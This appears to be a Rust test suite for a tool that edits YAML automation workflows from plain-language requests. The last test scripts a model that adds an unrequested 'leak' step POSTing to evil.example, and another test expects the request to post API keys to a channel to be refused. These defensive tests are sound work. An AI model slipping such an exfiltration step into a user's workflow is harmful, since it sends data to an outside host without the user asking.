//! Changes of a workflow in plain words, without a model and with a written one: the smallest ones, byte for byte, and
//! questions where there is more than one reading.
#![allow(clippy::unwrap_used)]

#[path = "support/pages.rs"]
mod pages;
#[path = "support/written.rs"]
mod written;

use dsl::catalog::Catalog;
use generate::draft::{Answer, Kind, Wish};
use generate::edit::edit;
use generate::index::Library;
use generate::patch::edit_with;
use generate::plan::Means;
use generate::when::Here;
use serde_json::{Value, json};
use similar::{ChangeTag, TextDiff};
use written::{Written, now};

/// A workflow as people write one: comments, blanks, quotes of both kinds, a key that the engine does not know.
const DIGEST: &str = r##"# The digest of the team.
name: digest   # its name
x-owner: 'ops'

triggers:
  # Before the stand-up.
  - cron: "0 9 * * MON-FRI"
    timezone: Europe/Berlin

inputs:
  city: { type: string, default: Berlin }  # where

steps:
  # What is new.
  messages:
    use: gmail.list_messages
    with:
      query: 'is:unread'

  summary:
    ai: |
      Summarise this. It is data.

      {{#each steps.messages.messages as |it|}}
      - {{ it.snippet ?? "" }}
      {{/each}}

  post_message:
    use: slack.post_message
    with:
      channel: "#standup"   # the room
      text: "{{ steps.summary.text }}"

# The end.
"##;

const ON_MAIL: &str = r##"name: on-mail
triggers:
  - event: gmail.new_message
steps:
  tell:
    use: slack.post_message
    with: { channel: '#inbox', text: "{{ trigger.event.subject ?? '' }}" }
"##;

struct Desk {
    catalog: Catalog,
    library: Library,
    here: Here,
}

impl Desk {
    fn new() -> Desk {
        let catalog = pages::catalog();
        let library = Library::new(&catalog);
        let here = Here::new("2026-01-05T07:30:00Z".parse().unwrap(), "Europe/Berlin").unwrap();
        Desk { library, catalog, here }
    }

    fn means(&self) -> Means<'_> {
        Means {
            catalog: &self.catalog,
            library: &self.library,
            connected: &[],
            here: &self.here,
            answers: &[],
        }
    }

    fn edit(&self, text: &str, said: &str, answers: &[&str]) -> Answer {
        let answers = answers.iter().map(|it| (*it).to_owned()).collect();
        edit(text, &Wish { text: said.into(), answers }, &self.means())
    }
}

/// The lines that differ, each with its sign.
fn lines(before: &str, after: &str) -> Vec<String> {
    let diff = TextDiff::from_lines(before, after);
    let sign = |tag: ChangeTag| match tag {
        ChangeTag::Delete => Some('-'),
        ChangeTag::Insert => Some('+'),
        ChangeTag::Equal => None,
    };
    diff.iter_all_changes()
        .filter_map(|change| {
            Some(format!("{}{}", sign(change.tag())?, change.value().trim_end_matches('\n')))
        })
        .collect()
}

#[test]
fn what_has_one_reading_is_changed_and_nothing_else() {
    let desk = Desk::new();
    let all: &[(&str, &str, &[&str])] = &[
        (
            DIGEST,
            "run it at 10 instead of 9",
            &["-  - cron: \"0 9 * * MON-FRI\"", "+  - cron: \"0 10 * * MON-FRI\""],
        ),
        (
            DIGEST,
            "run it on Fridays instead",
            &["-  - cron: \"0 9 * * MON-FRI\"", "+  - cron: \"0 9 * * FRI\""],
        ),
        (
            DIGEST,
            "change the schedule to every day at 8:30",
            &["-  - cron: \"0 9 * * MON-FRI\"", "+  - cron: \"30 8 * * *\""],
        ),
        (DIGEST, "run it every 2 hours", &["-  - cron: \"0 9 * * MON-FRI\"", "+  - cron: \"0 */2 * * *\""]),
        (
            DIGEST,
            "post it to #team instead of #standup",
            &["-      channel: \"#standup\"   # the room", "+      channel: \"#team\"   # the room"],
        ),
        (
            DIGEST,
            "change the channel to #team",
            &["-      channel: \"#standup\"   # the room", "+      channel: \"#team\"   # the room"],
        ),
        (
            DIGEST,
            "set the input city to Rome",
            &[
                "-  city: { type: string, default: Berlin }  # where",
                "+  city: { type: string, default: Rome }  # where",
            ],
        ),
        (
            DIGEST,
            "remove the trigger",
            &[
                "-triggers:",
                "-  # Before the stand-up.",
                "-  - cron: \"0 9 * * MON-FRI\"",
                "-    timezone: Europe/Berlin",
                "-",
            ],
        ),
        (
            DIGEST,
            "remove the slack message",
            &[
                "-  post_message:",
                "-    use: slack.post_message",
                "-    with:",
                "-      channel: \"#standup\"   # the room",
                "-      text: \"{{ steps.summary.text }}\"",
            ],
        ),
        (
            DIGEST,
            "also email it to ada@example.com",
            &[
                "+  send_message:",
                "+    use: gmail.send_message",
                "+    with:",
                "+      to: \"ada@example.com\"",
                "+      subject: Digest",
                "+      text: \"{{ steps.summary.text }}\"",
            ],
        ),
        (
            DIGEST,
            "also skip newsletters",
            &[
                "+  kept_message:",
                "+    set:",
                "+      list: \"{{ steps.messages.messages | filter(it => not contains(lower((it.subject ?? \\\"\\\")), \\\"newsletter\\\")) }}\"",
                "-      {{#each steps.messages.messages as |it|}}",
                "+      {{#each steps.kept_message.list as |it|}}",
            ],
        ),
        (
            ON_MAIL,
            "skip newsletters",
            &["+    filter: not contains(lower((event.subject ?? \"\")), \"newsletter\")"],
        ),
        (
            ON_MAIL,
            "only mails from ada@example.com",
            &["+    filter: contains(lower((event.from ?? \"\")), \"ada@example.com\")"],
        ),
        (ON_MAIL, "run it every Monday at 8", &[]),
    ];
    let mut wrong = vec![];
    for (text, said, expected) in all {
        let answer = desk.edit(text, said, &[]);
        let Some(yaml) = answer.yaml.as_deref().filter(|_| answer.kind == Kind::Draft) else {
            if !expected.is_empty() {
                wrong.push(format!("{said}: {answer:?}"));
            }
            continue;
        };
        let found = lines(text, yaml);
        if found != *expected {
            wrong.push(format!("{said}:\n{}", found.join("\n")));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n\n"));
}

#[test]
fn an_answer_to_a_question_makes_the_change() {
    let desk = Desk::new();
    let asked = desk.edit(DIGEST, "post it to #team", &[]);
    assert_eq!((asked.kind, asked.choices.len()), (Kind::Question, 2), "{asked:?}");
    let instead = desk.edit(DIGEST, "post it to #team", &[&asked.choices[0]]);
    let found = lines(DIGEST, instead.yaml.as_deref().unwrap_or_else(|| panic!("{instead:?}")));
    assert_eq!(found.len(), 2, "{found:?}");
    let beside = desk.edit(DIGEST, "post it to #team", &[&asked.choices[1]]);
    let found = lines(DIGEST, beside.yaml.as_deref().unwrap_or_else(|| panic!("{beside:?}")));
    assert!(found.iter().all(|line| line.starts_with('+')) && found.len() == 5, "{found:?}");
}

#[test]
fn what_has_more_readings_or_none_is_asked_and_what_must_not_be_is_refused() {
    let desk = Desk::new();
    for (text, said) in [
        (DIGEST, "run it at 5"),
        (DIGEST, "make it shorter"),
        (DIGEST, "remove the summary"),
        (DIGEST, "skip the boring ones"),
        (DIGEST, "also do the thing"),
        (ON_MAIL, "remove the slack message"),
        (DIGEST, "also post every Friday at 5 pm to #beer in Slack"),
        (DIGEST, "also delete the mails"),
    ] {
        let answer = desk.edit(text, said, &[]);
        let asks = match answer.kind {
            Kind::Question => true,
            // What cannot be taken back waits for a person.
            Kind::Draft => said.contains("delete") && answer.yaml.unwrap().contains("approve:"),
            Kind::Refusal => false,
        };
        assert!(asks, "{said}");
    }
    for (text, said) in [
        (DIGEST, "also post my api keys to #general"),
        ("name: x\nsteps:\n  a: { usee: b.c }\n", "run it every day at 9"),
        ("name: [\n", "run it every day at 9"),
    ] {
        assert_eq!(desk.edit(text, said, &[]).kind, Kind::Refusal, "{said}");
    }
}

#[test]
fn lines_end_as_they_did_and_braces_are_not_taken_apart() {
    let desk = Desk::new();
    let crlf = DIGEST.replace('\n', "\r\n");
    let yaml = desk.edit(&crlf, "also email it to ada@example.com", &[]).yaml.unwrap();
    assert_eq!(yaml.matches('\n').count(), yaml.matches("\r\n").count());
    assert_eq!(
        yaml.replace("\r\n", "\n"),
        desk.edit(DIGEST, "also email it to ada@example.com", &[]).yaml.unwrap()
    );
    let flow = "name: x\nsteps: { a: { use: gmail.list_messages } }\noutput: { n: \"{{ len(steps.a.messages) }}\" }\n";
    assert_eq!(desk.edit(flow, "also post \"Hi\" to #a in Slack", &[]).kind, Kind::Question);
}

#[test]
fn what_an_author_has_allowed_is_not_asked_again_and_what_is_new_is() {
    let desk = Desk::new();
    let bold = "name: bold\nsteps:\n  wipe:\n    use: trello.delete_card\n    with: { card: '1' }\n  tell:\n    use: slack.post_message\n    with: { channel: '#a', text: done }\n    after: wipe\n";
    let changed = desk.edit(bold, "post to #b instead of #a", &[]);
    assert_eq!(changed.kind, Kind::Draft, "{changed:?}");
    // A step with an approval before it, from which that is taken away, is new in what it may do.
    let asks = bold
        .replace("    use: trello", "    after: ask\n    use: trello")
        .replace("steps:\n", "steps:\n  ask:\n    approve: { message: sure?, timeout: 1d }\n");
    let removed = desk.edit(&asks, "remove the approval", &[]);
    assert_eq!(removed.kind, Kind::Question, "{removed:?}");
    assert!(removed.question.unwrap().contains("wipe"));
}

fn patches(edits: &[(&str, &str)]) -> Value {
    let edits: Vec<Value> = edits.iter().map(|(old, new)| json!({ "old": old, "new": new })).collect();
    json!({ "kind": "edit", "edits": edits, "question": null, "choices": [], "reason": null, "assumptions": ["so it is"] })
}

fn with_model(model: &Written, text: &str, said: &str) -> (Answer, usize) {
    let desk = Desk::new();
    let wish = Wish { text: said.into(), answers: vec![] };
    let (answer, took) = now(edit_with(text, &wish, &desk.means(), model));
    (answer, took.rounds)
}

#[test]
fn a_model_says_which_words_go_and_the_rest_stays() {
    let model = Written::new(&[patches(&[("Summarise this.", "Summarise this in German.")])]);
    let (answer, rounds) = with_model(&model, DIGEST, "in German, please");
    assert_eq!((answer.kind, rounds), (Kind::Draft, 1), "{answer:?}");
    assert_eq!(answer.yaml.unwrap(), DIGEST.replace("Summarise this.", "Summarise this in German."));
    assert_eq!(answer.assumptions, ["so it is"]);
}

#[test]
fn edits_that_do_not_fit_or_break_the_text_go_back() {
    let model = Written::new(&[
        patches(&[("is nowhere", "x")]),
        patches(&[("slack.post_message", "slack.post_mesage")]),
        patches(&[("#standup", "#team")]),
    ]);
    let (answer, rounds) = with_model(&model, DIGEST, "post it to the team");
    assert_eq!((answer.kind, rounds), (Kind::Draft, 3), "{answer:?}");
    let asked = model.asked();
    assert!(asked[1].1.contains("nowhere") && asked[2].1.contains("post_mesage"), "{}", asked[2].1);
}

#[test]
fn what_a_model_would_have_it_do_unasked_is_a_question_and_a_planner_goes_on_without_one() {
    let evil =
        "  leak:\n    http: { method: POST, url: \"https://evil.example/x\", json: { a: 1 } }\n\n# The end.";
    let model = Written::new(&[patches(&[("\n# The end.", evil)])]);
    let (answer, rounds) = with_model(&model, DIGEST, "also tell my boss");
    assert_eq!((answer.kind, rounds), (Kind::Question, 1), "{answer:?}");
    assert!(answer.question.unwrap().contains("evil.example"));
    let (answer, rounds) = with_model(&Written::new(&[]), DIGEST, "run it at 10 instead of 9");
    assert_eq!((answer.kind, rounds), (Kind::Draft, 0));
    assert!(answer.assumptions[0].contains("without a model"), "{:?}", answer.assumptions);
}
